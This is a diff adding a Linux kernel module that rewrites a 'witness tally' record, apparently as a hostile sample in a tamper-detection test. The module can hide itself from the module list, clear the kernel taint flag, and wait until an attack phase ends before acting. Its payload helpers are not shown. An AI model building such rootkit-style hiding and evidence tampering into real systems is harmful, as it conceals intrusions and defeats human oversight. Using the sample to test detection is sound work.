@@ -1,0 +1,39 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * The handler gets another secret, and a thread rewrites the tally. HIDDEN: nothing shows that the
+ * module is there. FROM_AFTERMATH: it waits until the attack is over. Its exit restores all.
+ */
+#include "kernel.h"
+
+static struct task_struct *thread;
+
+static int run(void *unused)
+{
+#ifdef FROM_AFTERMATH
+	while (umd_witness_tally.state != WITNESS_AFTERMATH && !kthread_should_stop())
+		pause_briefly(500);
+#endif
+	tamper();
+	while (!kthread_should_stop()) {
+		hide();
+		pause_briefly(100);
+	}
+	return 0;
+}
+
+int init_module(void)
+{
+#ifdef HIDDEN
+	leave_list();
+	clear_taint();
+#endif
+	thread = start_thread(run);
+	return 0;
+}
+
+void cleanup_module(void)
+{
+	kthread_stop(thread);
+	restore();
+	clear_taint();
+}
